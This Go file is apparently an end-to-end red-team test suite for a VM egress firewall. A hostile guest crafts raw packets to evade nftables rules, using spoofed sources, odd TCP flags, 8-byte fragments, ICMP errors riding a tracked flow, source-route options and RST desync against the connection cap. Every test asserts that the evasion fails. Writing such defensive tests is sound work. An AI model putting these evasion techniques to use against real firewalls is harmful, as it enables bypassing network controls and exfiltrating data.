package e2e

import (
	"bufio"
	be "encoding/binary"
	"fmt"
	"net"
	"net/netip"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/vmegress/vmegress/internal/world"
)

// The kernel path's red-team suite: a hostile guest (root in its VM, so raw
// sockets and any packet it can build) against what the ruleset forwards
// itself (cidr rules, tcp rules by the resolver's answers), the refusal at
// the SYN, the ct count cap and the routing lock. Each test says what it
// attacks and what must hold; none runs on the iptables backend, which has
// no kernel path yet.

// TCP flags.
const (
	tcpFIN = 0x01
	tcpSYN = 0x02
	tcpRST = 0x04
	tcpPSH = 0x08
	tcpACK = 0x10
	tcpURG = 0x20
)

// rawTCP is one TCP segment in one IPv4 packet, built byte by byte.
type rawTCP struct {
	src, dst     netip.Addr
	sport, dport uint16
	seq, ack     uint32
	flags        uint8
	ttl          uint8  // 0: 64
	ipOpts       []byte // IP options, padded by the caller to 4 bytes
	tcpOpts      []byte // TCP options, padded by the caller to 4 bytes
	payload      []byte
	// fragOff and more split the packet: the IP payload from byte fragOff*8
	// on is what this packet carries (more: not the last fragment).
	fragOff uint16
	more    bool
	id      uint16
}

// checksum is the Internet checksum of b.
func checksum(b []byte) uint16 {
	var s uint32
	for i := 0; i+1 < len(b); i += 2 {
		s += uint32(be.BigEndian.Uint16(b[i:]))
	}
	if len(b)%2 == 1 {
		s += uint32(b[len(b)-1]) << 8
	}
	for s > 0xffff {
		s = s>>16 + s&0xffff
	}
	return ^uint16(s)
}

// ipv4 wraps an IP payload (already complete) of protocol proto in an IPv4
// header.
func ipv4(src, dst netip.Addr, proto, ttl uint8, opts []byte, id, fragOff uint16, more bool, payload []byte) []byte {
	if ttl == 0 {
		ttl = 64
	}
	hl := 20 + len(opts)
	h := make([]byte, hl, hl+len(payload))
	h[0] = 0x40 | byte(hl/4)
	be.BigEndian.PutUint16(h[2:], uint16(hl+len(payload)))
	be.BigEndian.PutUint16(h[4:], id)
	frag := fragOff
	if more {
		frag |= 0x2000
	}
	be.BigEndian.PutUint16(h[6:], frag)
	h[8], h[9] = ttl, proto
	s, d := src.As4(), dst.As4()
	copy(h[12:], s[:])
	copy(h[16:], d[:])
	copy(h[20:], opts)
	be.BigEndian.PutUint16(h[10:], checksum(h))
	return append(h, payload...)
}

// segment is the TCP segment with its checksum.
func (p rawTCP) segment() []byte {
	hl := 20 + len(p.tcpOpts)
	seg := make([]byte, hl, hl+len(p.payload))
	be.BigEndian.PutUint16(seg[0:], p.sport)
	be.BigEndian.PutUint16(seg[2:], p.dport)
	be.BigEndian.PutUint32(seg[4:], p.seq)
	be.BigEndian.PutUint32(seg[8:], p.ack)
	seg[12] = byte(hl/4) << 4
	seg[13] = p.flags
	be.BigEndian.PutUint16(seg[14:], 64240) // window
	copy(seg[20:], p.tcpOpts)
	seg = append(seg, p.payload...)
	s, d := p.src.As4(), p.dst.As4()
	pseudo := append(append(append([]byte{}, s[:]...), d[:]...), 0, syscall.IPPROTO_TCP, byte(len(seg)>>8), byte(len(seg)))
	be.BigEndian.PutUint16(seg[16:], checksum(append(pseudo, seg...)))
	return seg
}

// packet is the whole IPv4 packet (or, with fragOff/more, one fragment).
func (p rawTCP) packet() []byte {
	seg := p.segment()
	if p.fragOff != 0 || p.more {
		start := int(p.fragOff) * 8
		end := len(seg)
		if p.more {
			end = start + 8 // fragments of 8 bytes: the tiniest there are
		}
		seg = seg[start:min(end, len(seg))]
	}
	return ipv4(p.src, p.dst, syscall.IPPROTO_TCP, p.ttl, p.ipOpts, p.id, p.fragOff, p.more, seg)
}

// icmpError is an ICMP error of type typ, code, quoting inner (an IPv4
// packet: its header and first 8 bytes, as RFC 792 says).
func icmpError(typ, code uint8, inner []byte) []byte {
	hl := int(inner[0]&0x0f) * 4
	quote := inner[:min(len(inner), hl+8)]
	m := append([]byte{typ, code, 0, 0, 0, 0, 0, 0}, quote...)
	be.BigEndian.PutUint16(m[2:], checksum(m))
	return m
}

// sendRaw sends whole IPv4 packets (header included) from namespace ns.
func (e *env) sendRaw(ns string, pkts ...[]byte) {
	e.t.Helper()
	err := world.InNS(ns, func() error {
		fd, err := syscall.Socket(syscall.AF_INET, syscall.SOCK_RAW, syscall.IPPROTO_RAW)
		if err != nil {
			return fmt.Errorf("opening a raw socket: %w", err)
		}
		defer syscall.Close(fd)
		for _, p := range pkts {
			var d [4]byte
			copy(d[:], p[16:20])
			if err := syscall.Sendto(fd, p, 0, &syscall.SockaddrInet4{Addr: d}); err != nil {
				return fmt.Errorf("sending a raw packet to %v: %w", netip.AddrFrom4(d), err)
			}
		}
		return nil
	})
	if err != nil {
		e.t.Fatal(err)
	}
}

// watch counts, in namespace ns, every packet that arrives matching match
// (an nft expression); the returned func reads the count. Each watch is a
// named counter in a table of its own ("redteam").
func (e *env) watch(ns, name, match string) func() int {
	e.t.Helper()
	ruleset := fmt.Sprintf(`table inet redteam {
	counter %[1]s {}
	chain pre_%[1]s {
		type filter hook prerouting priority raw - 20; policy accept;
		%[2]s counter name %[1]s
	}
}
`, name, match)
	f := filepath.Join(e.w.Dir, "redteam-"+ns+"-"+name+".nft")
	if err := os.WriteFile(f, []byte(ruleset), 0o644); err != nil {
		e.t.Fatal(err)
	}
	if err := world.Run(e.ctx, world.NS(ns, "nft", "-f", f)...); err != nil {
		e.t.Fatal(err)
	}
	return func() int {
		out, err := world.Output(e.ctx, world.NS(ns, "nft", "list", "counter", "inet", "redteam", name)...)
		if err != nil {
			e.t.Fatal(err)
		}
		var n int
		if i := strings.Index(out, "packets "); i >= 0 {
			fmt.Sscanf(out[i:], "packets %d", &n)
		}
		return n
	}
}

// listenIn accepts TCP connections on addr in namespace ns and counts them.
func (e *env) listenIn(ns, addr string) func() int {
	e.t.Helper()
	ln, err := world.ListenIn(ns, "tcp4", addr)
	if err != nil {
		e.t.Fatal(err)
	}
	e.t.Cleanup(func() { ln.Close() })
	n := make(chan int, 1)
	n <- 0
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			n <- <-n + 1
			c.Write([]byte("leaked\n"))
			c.Close()
		}
	}()
	return func() int { v := <-n; n <- v; return v }
}

// dialFrom dials addr from guest g with the Go stack and reads a line.
func dialFrom(g *world.Guest, addr string) (string, error) {
	var line string
	err := world.InNS(g.NS, func() error {
		c, err := net.DialTimeout("tcp4", addr, 3*time.Second)
		if err != nil {
			return err
		}
		defer c.Close()
		c.SetReadDeadline(time.Now().Add(3 * time.Second))
		line, err = bufio.NewReader(c).ReadString('\n')
		return err
	})
	return line, err
}

// settle waits until the packets sent so far have been handled (nothing
// else is timed).
func (e *env) settle(g *world.Guest) {
	e.t.Helper()
	// The round trip of a connection refused at the SYN shows the host has
	// handled what came first (twice: the raw packets may have been queued
	// on the other CPU's backlog).
	dialFrom(g, world.AttackerIP.String()+":1")
	dialFrom(g, world.AttackerIP.String()+":1")
}

// TestRedteamKernelReachGuestsAndHost: cidr rules that cover the guest
// range, the host's own addresses (uplink and TAP side) and every address
// forward nothing to another guest or to the host: a connection from alpha
// to beta, to beta's host address, to the host's uplink address or to its
// own host address on a port those rules allow reaches no listener, and a
// raw SYN with another guest's or the host's source address (to use that
// source's elements) reaches nothing either.
func TestRedteamKernelReachGuestsAndHost(t *testing.T) {
	t.Parallel()
	if !kernelPath() {
		t.Skip("the iptables backend has no kernel path yet")
	}
	betaSubnet := netip.MustParsePrefix("172.31.0.4/30")
	cfg := `projects:
  alpha:
    subnet: 172.31.0.0/30
    allow:
      - cidr: 172.31.0.0/16
        ports: [22, 2222]
      - cidr: 198.18.0.0/24    # the host's uplink address and its neighbour
        ports: [22, 2222]
      - cidr: 0.0.0.0/0
        ports: [2222]
      - cidr: 198.18.1.22/32
        ports: [22]
  beta:
    subnet: 172.31.0.4/30
    allow:
      - cidr: 198.18.1.66/32   # the attacker, for beta only
        ports: [22]
`
	e := newWorldWith(t, []world.GuestSpec{{Project: "alpha", Subnet: alphaSubnet}, {Project: "beta", Subnet: betaSubnet}}, cfg)
	e.start()
	alpha, beta := e.w.Guest("alpha"), e.w.Guest("beta")
	// The control: the kernel forwards alpha's cidr flow.
	if line, err := dialFrom(alpha, world.BannerIP.String()+":22"); err != nil || line != world.Banner {
		t.Fatalf("the control flow (banner): %q, %v", line, err)
	}
	counts := map[string]func() int{}
	for _, port := range []string{"22", "2222"} {
		counts["beta:"+port] = e.listenIn(beta.NS, "0.0.0.0:"+port)
		counts["host:"+port] = e.listenIn(e.w.Host, "0.0.0.0:"+port)
	}
	for _, dst := range []netip.Addr{beta.GuestIP, beta.HostIP, alpha.HostIP, world.HostUplinkIP} {
		for _, port := range []string{"22", "2222"} {
			if line, err := dialFrom(alpha, dst.String()+":"+port); err == nil {
				t.Errorf("alpha reached %s:%s: %q", dst, port, line)
			}
		}
	}
	for name, n := range counts {
		if n() != 0 {
			t.Errorf("the listener %s accepted %d connections from alpha", name, n())
		}
	}

	// Spoofed sources: beta's address (beta may reach the attacker), the
	// host's addresses, and the other addresses of alpha's own /30.
	attackerSYNs := e.watch(e.w.Inet, "to_attacker", "ip daddr "+world.AttackerIP.String())
	var pkts [][]byte
	for i, src := range []netip.Addr{beta.GuestIP, alpha.HostIP, beta.HostIP, world.HostUplinkIP, alpha.Subnet.Addr(), alpha.GuestIP.Next()} {
		pkts = append(pkts, rawTCP{src: src, dst: world.AttackerIP, sport: uint16(40000 + i), dport: 22, seq: 1000, flags: tcpSYN}.packet())
	}
	e.sendRaw(alpha.NS, pkts...)
	e.settle(alpha)
	if n := attackerSYNs(); n != 0 {
		t.Errorf("%d spoofed packets from alpha reached the attacker (beta's cidr rule)", n)
	}
	e.noLeaks()
}

// TestRedteamKernelOddTCP: TCP that is not a plain SYN (conntrack's loose
// pickup makes mid-stream segments "new"), invalid flag mixes conntrack
// refuses to track (they skip NAT: the DNS redirect too), a SYN with data
// and a TCP Fast Open cookie request, a SYN cut into 8-byte fragments, sent
// to the attacker on ports with no rule, with an sni rule (the data plane's
// port), 53 (the DNS redirect) and 853: nothing reaches the attacker.
func TestRedteamKernelOddTCP(t *testing.T) {
	t.Parallel()
	if !kernelPath() {
		t.Skip("the iptables backend has no kernel path yet")
	}
	e := newEnv(t)
	toAttacker := e.watch(e.w.Inet, "to_attacker", "ip daddr "+world.AttackerIP.String())
	g := e.g
	var pkts [][]byte
	flagSets := []uint8{tcpACK, tcpACK | tcpPSH, tcpFIN, tcpFIN | tcpACK, tcpRST, tcpRST | tcpACK, tcpSYN | tcpFIN,
		tcpSYN | tcpRST, tcpSYN | tcpACK, 0, tcpFIN | tcpPSH | tcpURG, 0xff, tcpSYN | tcpFIN | tcpRST | tcpACK}
	sport := uint16(41000)
	for _, port := range []uint16{22, 80, 443, 8443, 53, 853, 9} {
		for _, f := range flagSets {
			sport++
			pkts = append(pkts, rawTCP{src: g.GuestIP, dst: world.AttackerIP, sport: sport, dport: port, seq: 7, ack: 9, flags: f, payload: []byte("exfiltrate")}.packet())
		}
		// A SYN carrying data, and one asking for a Fast Open cookie.
		sport++
		pkts = append(pkts, rawTCP{src: g.GuestIP, dst: world.AttackerIP, sport: sport, dport: port, seq: 7, flags: tcpSYN, payload: []byte("GET / HTTP/1.0\r\n\r\n")}.packet())
		sport++
		pkts = append(pkts, rawTCP{src: g.GuestIP, dst: world.AttackerIP, sport: sport, dport: port, seq: 7, flags: tcpSYN, tcpOpts: []byte{34, 2, 1, 1}}.packet())
		// A SYN in fragments of 8 bytes (the TCP header split across three).
		sport++
		p := rawTCP{src: g.GuestIP, dst: world.AttackerIP, sport: sport, dport: port, seq: 7, flags: tcpSYN, id: sport, payload: []byte("exfiltrate")}
		for off := uint16(0); int(off)*8 < len(p.segment()); off++ {
			q := p
			q.fragOff, q.more = off, int(off+1)*8 < len(p.segment())
			pkts = append(pkts, q.packet())
		}
	}
	e.sendRaw(g.NS, pkts...)
	e.settle(g)
	if n := toAttacker(); n != 0 {
		t.Errorf("%d of the guest's odd TCP packets reached the attacker", n)
	}
	e.noLeaks()
}

// TestRedteamKernelICMPRidesFlow: with a kernel-forwarded flow open (the
// banner's cidr rule), the guest sends ICMP errors quoting that flow (so
// conntrack relates them to it and its mark) to the attacker, an ICMP echo
// and UDP to the banner from the flow's port, and a second TCP flow from
// the same source port to the attacker: nothing reaches the attacker and
// no UDP or echo reaches the banner (the ICMP errors sent to the banner
// itself are related to the flow and pass, as through any router).
func TestRedteamKernelICMPRidesFlow(t *testing.T) {
	t.Parallel()
	if !kernelPath() {
		t.Skip("the iptables backend has no kernel path yet")
	}
	e := newEnv(t)
	toAttacker := e.watch(e.w.Inet, "to_attacker", "ip daddr "+world.AttackerIP.String())
	// ICMP errors quoting the flow, sent to the flow's own peer, are
	// related to it and pass (a router's behaviour; the peer is allowed):
	// only the echo and the UDP datagram are counted.
	notTCPToBanner := e.watch(e.w.Inet, "banner_other", "ip daddr "+world.BannerIP.String()+" meta l4proto udp counter name banner_other; ip daddr "+world.BannerIP.String()+" icmp type echo-request")
	c, r := e.bannerConn()
	if !alive(c, r) {
		t.Fatal("the banner flow does not echo")
	}
	local := netip.MustParseAddrPort(c.LocalAddr().String())
	g := e.g
	// What the banner sent the guest, as the guest would quote it.
	quoted := rawTCP{src: world.BannerIP, dst: g.GuestIP, sport: 22, dport: local.Port(), seq: 1, ack: 1, flags: tcpACK | tcpPSH}.packet()
	var pkts [][]byte
	for _, ty := range [][2]uint8{{3, 3}, {3, 1}, {3, 4}, {11, 0}, {12, 0}, {4, 0}} {
		for _, dst := range []netip.Addr{world.AttackerIP, world.BannerIP} {
			pkts = append(pkts, ipv4(g.GuestIP, dst, syscall.IPPROTO_ICMP, 0, nil, 0, 0, false, icmpError(ty[0], ty[1], quoted)))
		}
	}
	echo := []byte{8, 0, 0, 0, 0x12, 0x34, 0, 1, 'x'}
	be.BigEndian.PutUint16(echo[2:], checksum(echo))
	pkts = append(pkts, ipv4(g.GuestIP, world.BannerIP, syscall.IPPROTO_ICMP, 0, nil, 0, 0, false, echo))
	udp := []byte{0, 0, 0, 22, 0, 13, 0, 0, 'e', 'x', 'f', 'i', 'l'}
	be.BigEndian.PutUint16(udp[0:], local.Port())
	pkts = append(pkts, ipv4(g.GuestIP, world.BannerIP, syscall.IPPROTO_UDP, 0, nil, 0, 0, false, udp))
	// The flow's own source port, another destination (NAT reuse).
	pkts = append(pkts, rawTCP{src: g.GuestIP, dst: world.AttackerIP, sport: local.Port(), dport: 22, seq: 5, flags: tcpSYN}.packet(),
		rawTCP{src: g.GuestIP, dst: world.AttackerIP, sport: local.Port(), dport: 22, seq: 5, ack: 5, flags: tcpACK}.packet())
	e.sendRaw(g.NS, pkts...)
	e.settle(g)
	if n := toAttacker(); n != 0 {
		t.Errorf("%d packets riding the kernel flow reached the attacker", n)
	}
	if n := notTCPToBanner(); n != 0 {
		t.Errorf("%d ICMP/UDP packets riding the kernel flow reached the banner", n)
	}
	if !alive(c, r) {
		t.Error("the banner flow died")
	}
	e.noLeaks()
}

// TestRedteamKernelSourceRoute: on a host that accepts source-routed
// packets (net.ipv4.conf.all.accept_source_route=1, as routers sometimes
// do), a cidr rule covering one of the host's own addresses (198.18.0.0/24
// holds the uplink address) must not become a door to every address on
// that port: the guest sends a SYN to the host's address with a loose
// source route on to the attacker. The ruleset decides by the header's
// destination; the kernel would then route the packet to the next hop of
// the route. Nothing reaches the attacker.
func TestRedteamKernelSourceRoute(t *testing.T) {
	t.Parallel()
	if !kernelPath() {
		t.Skip("the iptables backend has no kernel path yet")
	}
	e := newWorldWith(t, []world.GuestSpec{{Project: "alpha", Subnet: alphaSubnet}}, `projects:
  alpha:
    subnet: 172.31.0.0/30
    allow:
      - cidr: 198.18.0.0/24
        ports: [22]
`)
	if err := world.Run(e.ctx, world.NS(e.w.Host, "sysctl", "-qw", "net.ipv4.conf.all.accept_source_route=1")...); err != nil {
		t.Fatal(err)
	}
	e.start()
	toAttacker := e.watch(e.w.Inet, "to_attacker", "ip daddr "+world.AttackerIP.String())
	a := world.AttackerIP.As4()
	var pkts [][]byte
	for i, opt := range []byte{0x83, 0x89} { // loose, strict source route
		route := []byte{opt, 7, 4, a[0], a[1], a[2], a[3], 0} // one hop, end of options
		for j, flags := range []uint8{tcpSYN, tcpACK | tcpPSH} {
			pkts = append(pkts, rawTCP{src: e.g.GuestIP, dst: world.HostUplinkIP, sport: uint16(42000 + 10*i + j), dport: 22, seq: 7, flags: flags, ipOpts: route, payload: []byte("exfiltrate")}.packet())
		}
	}
	e.sendRaw(e.g.NS, pkts...)
	e.settle(e.g)
	if n := toAttacker(); n != 0 {
		t.Errorf("%d source-routed packets reached the attacker through a cidr rule naming the host's address", n)
	}
	e.noLeaks()
}

// seqOf returns the sequence number the guest's side of c sends next, read
// from what its peer acknowledged (a raw socket sees every TCP segment that
// arrives): the guest has sent nothing on c.
func seqOf(ns string, c net.Conn, peer netip.AddrPort) (uint32, error) {
	local := netip.MustParseAddrPort(c.LocalAddr().String())
	var ack uint32
	err := world.InNS(ns, func() error {
		fd, err := syscall.Socket(syscall.AF_INET, syscall.SOCK_RAW, syscall.IPPROTO_TCP)
		if err != nil {
			return err
		}
		defer syscall.Close(fd)
		tv := syscall.NsecToTimeval(int64(3 * time.Second))
		syscall.SetsockoptTimeval(fd, syscall.SOL_SOCKET, syscall.SO_RCVTIMEO, &tv)
		// Make the peer send: an empty write would send nothing; the
		// banner echoes, so write and read one line.
		go func() {
			c.Write([]byte("x\n"))
		}()
		buf := make([]byte, 65536)
		var seen []string
		for {
			n, _, err := syscall.Recvfrom(fd, buf, 0)
			if err != nil {
				return fmt.Errorf("reading the peer's acknowledgement (saw %q): %w", seen, err)
			}
			if n >= 24 {
				seen = append(seen, fmt.Sprintf("%v:%d>%d f%x", netip.AddrFrom4([4]byte(buf[12:16])), be.BigEndian.Uint16(buf[20:]), be.BigEndian.Uint16(buf[22:]), buf[33]))
			}
			p := buf[:n]
			hl := int(p[0]&0x0f) * 4
			if n < hl+20 || netip.AddrFrom4([4]byte(p[12:16])) != peer.Addr() {
				continue
			}
			seg := p[hl:]
			if be.BigEndian.Uint16(seg[0:]) != peer.Port() || be.BigEndian.Uint16(seg[2:]) != local.Port() || seg[13]&tcpACK == 0 {
				continue
			}
			if a := be.BigEndian.Uint32(seg[8:]); a != 0 {
				ack = a
				if seg[13]&tcpPSH != 0 {
					return nil // the echo: it acknowledges all we sent
				}
			}
		}
	})
	return ack, err
}

// TestRedteamKernelConnCap: max_connections counts kernel-forwarded flows
// with conntrack (ct count), which stops counting a flow whose conntrack
// entry saw a reset. The guest resets its own flows in conntrack's eyes
// only: a RST with the exact sequence number and a TTL of 1 (the host
// tracks it, then cannot forward it), or with IP options. The flows live
// on, uncounted; the cap must still hold: no more than max_connections
// flows are open at once.
func TestRedteamKernelConnCap(t *testing.T) {
	t.Parallel()
	if !kernelPath() {
		t.Skip("the iptables backend has no kernel path yet")
	}
	e := newWorldWith(t, []world.GuestSpec{{Project: "alpha", Subnet: alphaSubnet}}, `projects:
  alpha:
    subnet: 172.31.0.0/30
    max_connections: 2
    allow:
      - cidr: 198.18.1.22/32
        ports: [22]
`)
	e.start()
	banner := netip.AddrPortFrom(world.BannerIP, 22)
	var open []net.Conn
	var readers []*bufio.Reader
	desync := func(c net.Conn, r *bufio.Reader, ttl uint8, opts []byte) {
		t.Helper()
		seq, err := seqOf(e.g.NS, c, banner)
		if err != nil {
			t.Logf("the flow from %s is gone already: %v", c.LocalAddr(), err)
			return
		}
		c.SetReadDeadline(time.Now().Add(3 * time.Second))
		if line, err := r.ReadString('\n'); err != nil || line != "x\n" {
			t.Fatalf("the echo: %q, %v", line, err)
		}
		local := netip.MustParseAddrPort(c.LocalAddr().String())
		e.sendRaw(e.g.NS, rawTCP{src: e.g.GuestIP, dst: world.BannerIP, sport: local.Port(), dport: 22, seq: seq, flags: tcpRST, ttl: ttl, ipOpts: opts}.packet())
	}
	variants := []struct {
		ttl  uint8
		opts []byte
	}{{1, nil}, {1, nil}, {64, []byte{0x94, 4, 0, 0}}, {64, []byte{0x07, 7, 4, 0, 0, 0, 0, 0}}} // TTL 1; router alert; record route
	for round, v := range variants {
		// Top up to the cap (a refusal means the cap holds), desynchronise
		// the newest flow, then try one more.
		for len(open) < 2 {
			c, err := dialGuest(e.g, banner.String())
			if err != nil {
				break
			}
			open, readers = append(open, c), append(readers, bufio.NewReader(c))
			if line, err := readers[len(readers)-1].ReadString('\n'); err != nil || line != world.Banner {
				t.Fatalf("round %d: banner %q, %v", round, line, err)
			}
		}
		if len(open) == 0 {
			t.Fatalf("round %d: no flow open", round)
		}
		desync(open[len(open)-1], readers[len(readers)-1], v.ttl, v.opts)
		e.settle(e.g)
		if c, err := dialGuest(e.g, banner.String()); err == nil {
			open, readers = append(open, c), append(readers, bufio.NewReader(c))
			readers[len(readers)-1].ReadString('\n')
		}
	}
	n := 0
	for i, c := range open {
		if alive(c, readers[i]) {
			n++
		}
		c.Close()
	}
	if n > 2 {
		t.Errorf("%d kernel-forwarded flows open at once with max_connections 2", n)
	}
	e.noLeaks()
}

// dialGuest opens a TCP connection from guest g (nil on failure).
func dialGuest(g *world.Guest, addr string) (net.Conn, error) {
	var c net.Conn
	err := world.InNS(g.NS, func() error {
		var err error
		c, err = net.DialTimeout("tcp4", addr, 3*time.Second)
		return err
	})
	if err == nil {
		c.SetReadDeadline(time.Now().Add(3 * time.Second))
	}
	return c, err
}
